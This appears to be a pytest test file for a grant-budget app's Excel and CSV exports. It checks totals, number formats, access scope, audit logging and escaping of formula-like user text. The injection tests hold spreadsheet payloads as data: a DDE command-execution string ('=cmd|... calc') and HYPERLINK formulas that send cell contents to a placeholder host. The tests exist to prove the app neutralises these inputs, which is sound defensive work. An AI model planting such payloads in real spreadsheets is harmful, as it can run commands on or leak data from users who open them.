"""Open the workbooks the app sends and check what an auditor would rely on."""

import re
import uuid
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from budgets import ledger
from grants.audit import AuditEvent
from reports.exports.xlsx import csv_text, looks_like_formula, safe_text
from tests.budgets.ledger_helpers import activate, draw, post


def _workbook(response):
    assert response.status_code == 200
    assert (
        response["Content-Type"]
        == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return load_workbook(BytesIO(b"".join(response.streaming_content)))


def test_awards_workbook_keeps_types_formats_and_totals(client, program):
    client.force_login(program.auditor)
    wb = _workbook(client.get(reverse("exports:table", args=["awards"])))
    ws = wb["Awards"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:3] == ("Award number", "Fiscal year", "Task force")
    numbers = {r[0]: r for r in rows[1:-1]}
    first = numbers["15PJDP-25-GK-00001-MECP"]
    assert (
        first[8] == 200000
        and isinstance(first[6], datetime)
        and first[6].date() == date(2024, 10, 1)
    )
    amount_cell = ws["I2"]
    assert amount_cell.number_format == "#,##0.00" and amount_cell.data_type == "n"
    assert ws["A2"].data_type == "s"
    assert rows[-1][0] == "Total" and rows[-1][8] == "=SUM(I2:I3)"
    assert sum(r[8] for r in rows[1:-1]) == 400000  # what the app shows as awarded
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:S3"  # 19 columns, 2 awards
    about = dict(wb["About"].iter_rows(values_only=True))
    assert about["Exported by"] == "auditor" and about["Rows in Awards"] == "2"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} \S+", about["Exported at"])
    assert len(about["SHA-256 of the data"]) == 64
    event = AuditEvent.objects.get(action="reports.export.downloaded")
    assert event.actor == program.auditor and event.data["rows"] == 2


def test_filters_and_scope_are_honoured(client, program):
    client.force_login(program.officer_b)
    rows = list(
        _workbook(client.get(reverse("exports:table", args=["awards"]))).active.iter_rows(
            values_only=True
        )
    )
    assert [r[0] for r in rows[1:-1]] == ["15PJDP-25-GK-00002-MECP"]
    client.force_login(program.pm)
    rows = list(
        _workbook(
            client.get(reverse("exports:table", args=["awards"]), {"award_number": "00001"})
        ).active.iter_rows(values_only=True)
    )
    assert [r[0] for r in rows[1:-1]] == ["15PJDP-25-GK-00001-MECP"]
    event = AuditEvent.objects.filter(action="reports.export.downloaded").latest("pk")
    assert event.actor == program.pm and event.data["filters"] == {"award_number": "00001"}
    assert event.data["rows"] == 1 and event.data["filename"].startswith("awards-")
    assert (
        client.get(reverse("exports:table", args=["ledger", "15PJDP-25-GK-00001-MECP"])).status_code
        == 200
    )
    client.force_login(program.officer_b)
    assert (
        client.get(reverse("exports:table", args=["ledger", "15PJDP-25-GK-00001-MECP"])).status_code
        == 404
    )
    assert client.get(reverse("exports:table", args=["appropriations"])).status_code == 403


@pytest.mark.parametrize(
    "memo, stored",
    [
        (
            '=HYPERLINK("http://x.invalid/?"&A1,"Open")',
            '=HYPERLINK("http://x.invalid/?"&A1,"Open")',
        ),
        ("+1+1", "+1+1"),
        ("-2+3", "-2+3"),
        ("@SUM(A1:A9)", "@SUM(A1:A9)"),
        ("\t=1+1", "=1+1"),
        ("\x00=1", "=1"),
        ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
        ("#N/A", "#N/A"),
    ],
)
def test_user_text_never_becomes_a_formula(client, program, memo, stored):
    """Text as typed (no apostrophe added), a string cell with the quotePrefix style."""
    activate(program)
    program.award_a.refresh_from_db()
    post(program, "expenditure", "10.00", memo=memo)
    client.force_login(program.officer_a)
    ws = _workbook(
        client.get(reverse("exports:table", args=["ledger", program.award_a.award_number]))
    )["Ledger"]
    cell = ws["J2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (stored, "s", True)


def test_ledger_workbook_ties_out_to_the_balances(client, program):
    activate(program)
    program.award_a.refresh_from_db()
    post(program, "expenditure", "100.25")
    entry = post(program, "expenditure", "50.10")
    ledger.entry_reverse(
        actor=program.officer_a,
        entry=entry,
        reason="twice",
        idempotency_key=uuid.uuid4(),
        effective_date=date(2025, 2, 1),
    )
    client.force_login(program.auditor)
    ws = _workbook(
        client.get(reverse("exports:table", args=["ledger", program.award_a.award_number]))
    )["Ledger"]
    amounts = [row[6] for row in ws.iter_rows(min_row=2, values_only=True) if row[0] != "Total"]
    assert [Decimal(str(a)) for a in amounts] == [
        Decimal("100.25"),
        Decimal("50.10"),
        Decimal("-50.10"),
    ]
    assert list(ws.iter_rows(values_only=True))[-1][8] is None  # running columns are not totalled


def test_filtered_ledger_download_keeps_the_balances_of_the_whole_ledger(client, program):
    """Filters choose the rows; the running balances stay those of the whole ledger."""
    activate(program)
    program.award_a.refresh_from_db()
    draw(program, "300.00")
    post(program, "expenditure", "100.25")
    post(program, "disbursement", "40.00", day=date(2025, 1, 16))
    post(program, "expenditure", "50.10", day=date(2025, 1, 20))
    client.force_login(program.auditor)
    url = reverse("exports:table", args=["ledger", program.award_a.award_number])
    ws = _workbook(client.get(url, {"kind": "expenditure", "date_from": "2025-01-16"}))["Ledger"]
    rows = [r for r in ws.iter_rows(min_row=2, values_only=True) if r[0] != "Total"]
    assert [(r[2], Decimal(str(r[6])), Decimal(str(r[7])), Decimal(str(r[8]))) for r in rows] == [
        ("Expenditure", Decimal("50.10"), Decimal("260.00"), Decimal("150.35")),
    ]
    every = _workbook(client.get(url))["Ledger"]
    rows = [r for r in every.iter_rows(min_row=2, values_only=True) if r[0] != "Total"]
    assert [(r[2], Decimal(str(r[7])), Decimal(str(r[8]))) for r in rows] == [
        ("Drawdown received", Decimal("300.00"), Decimal("0")),
        ("Expenditure", Decimal("300.00"), Decimal("100.25")),
        ("Disbursement", Decimal("260.00"), Decimal("100.25")),
        ("Expenditure", Decimal("260.00"), Decimal("150.35")),
    ]


def test_about_sheet_text_never_becomes_a_formula():
    from reports.exports.xlsx import write_workbook

    handle = BytesIO()
    write_workbook(
        handle, sheets=[], about={"=Export": '=HYPERLINK("http://x.invalid")', "Blank": ""}
    )
    ws = load_workbook(BytesIO(handle.getvalue()))["About"]
    assert [(c.value, c.data_type, c.quotePrefix) for c in ws[1]] == [
        ("=Export", "s", True),
        ('=HYPERLINK("http://x.invalid")', "s", True),
    ]
    assert ws["A2"].value == "Blank" and ws["B2"].value is None
    assert ws["A3"].value == "SHA-256 of the data" and len(ws["B3"].value) == 64


def test_about_sheet_prints_one_page_wide_with_long_values_wrapped():
    """An auditor printing the About sheet gets both columns on one page, and a sentence
    longer than its column wraps within it instead of running past the page's edge."""
    from reports.exports.xlsx import write_workbook

    sentence = "Total rows are formulas over the rows above them. " * 3
    handle = BytesIO()
    write_workbook(handle, sheets=[], about={"Totals": sentence, "=Key": "=Value"})
    ws = load_workbook(BytesIO(handle.getvalue()))["About"]
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert ws.page_setup.orientation == "landscape"
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws["B1"].value == sentence and ws["B1"].alignment.wrap_text is True
    # 150 characters in a column 80 wide: two lines, and the row is as tall as both.
    assert ws.row_dimensions[1].height == 30 and ws.row_dimensions[2].height is None
    # Text that starts like a formula keeps its quote prefix when it wraps.
    assert (ws["B2"].value, ws["B2"].quotePrefix, ws["B2"].alignment.wrap_text) == (
        "=Value",
        True,
        True,
    )
    assert ws["A3"].value == "SHA-256 of the data" and ws["B3"].alignment.wrap_text is True


def test_safe_text_truncation_is_marked():
    text = safe_text("x" * 40000)
    assert len(text) == 32767 and text.endswith("[truncated]")


def test_formula_starts_are_found_and_escaped_for_csv():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "#N/A"):
        assert looks_like_formula(text) and csv_text(text) == "'" + text
    for text in ("a\tb", "1-2", "#5 Main St", "Smith, =ok"):
        assert not looks_like_formula(text) and csv_text(text) == text
    assert safe_text("\x00=1") == "=1"


def test_safe_text_keeps_tabs_and_line_breaks_and_drops_other_control_characters():
    assert safe_text("a\tb\nc\r\nd") == "a\tb\nc\r\nd"
    assert safe_text("Café\x0b \x1fé\x7f") == "Café é\x7f"  # DEL is legal XML
    assert safe_text(12.5) == "12.5"
